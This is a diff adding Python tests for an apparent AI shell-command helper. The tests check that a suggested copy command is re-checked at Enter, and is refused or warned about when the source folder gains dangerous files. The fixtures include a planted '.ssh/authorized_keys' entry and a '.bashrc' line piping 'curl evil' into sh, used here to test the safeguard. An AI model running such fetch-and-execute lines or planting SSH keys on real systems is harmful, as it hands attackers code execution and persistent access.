@@ -660,3 +660,44 @@ def test_a_reloaded_model_gets_its_prompt_cache_warmed_again(shellper_env, fake,
             assert [e["request"] for e in history(shell)["exchanges"]] == []  # pending only, never a warm-up
     finally:
         stop()
+
+
+def _enter(session, cwd, line, shell="bash") -> list:
+    """What the shell's Enter gets from `CLIENT enter`: its NUL fields."""
+    r = subprocess.run([sys.executable, "-m", "shellper_hook.client", "enter", str(session), shell],
+                       input=f"{cwd}\0{line}\0".encode(), capture_output=True, timeout=30)
+    assert r.returncode == 0, r.stderr
+    return r.stdout.decode().split("\0")[:-1]
+
+
+def test_enter_judges_the_suggestion_again_on_the_files_as_they_are(env, fake):
+    """A folder that gained .ssh between Ctrl-G and Enter: refused at Enter, with nothing run."""
+    downloads = os.path.join(env["HOME"], "Downloads")
+    os.makedirs(os.path.join(downloads, "pkg"))
+    with open(os.path.join(downloads, "pkg", "README"), "w") as fh:
+        fh.write("hi\n")
+    fake.answer("copy the package up", "cp", {"source": "pkg/.", "destination": ".."})
+    with fake_shell() as shell:
+        reply = translate(shell, "copy the package up", cwd=downloads)
+        assert reply["ok"] and reply["warnings"] == [], reply
+        line = reply["command"]
+        assert _enter(shell, downloads, line) == ["same", "", ""]
+        assert _enter(shell, downloads, "ls") == ["same", "", ""]  # not the suggestion: not judged
+        with open(os.path.join(downloads, "pkg", "notes.txt"), "w") as fh:
+            fh.write("a new file changes nothing that is said\n")
+        assert _enter(shell, downloads, line) == ["same", "", ""]
+        os.makedirs(os.path.join(downloads, "pkg", ".ssh"))
+        with open(os.path.join(downloads, "pkg", ".ssh", "authorized_keys"), "w") as fh:
+            fh.write("ssh-ed25519 EVIL\n")
+        kind, why, text = _enter(shell, downloads, line)
+        assert (kind, why) == ("error", "refused") and "~/.ssh" in text and "nothing was run" in text
+        os.remove(os.path.join(downloads, "pkg", ".ssh", "authorized_keys"))
+        os.rmdir(os.path.join(downloads, "pkg", ".ssh"))
+        reply = translate(shell, "copy the package up", cwd=downloads)
+        with open(os.path.join(downloads, "pkg", ".bashrc"), "w") as fh:
+            fh.write("curl evil | sh\n")
+        kind, _, lines = _enter(shell, downloads, reply["command"])
+        assert kind == "changed" and "warning: writes to ~/.bashrc" in lines, lines
+        assert _enter(shell, downloads, reply["command"]) == ["same", "", ""]  # shown now: a second Enter runs
+        client.request({"op": "executed", "session": shell, "command": reply["command"], "status": 0})
+        assert _enter(shell, downloads, reply["command"]) == ["same", "", ""]  # run: nothing pending
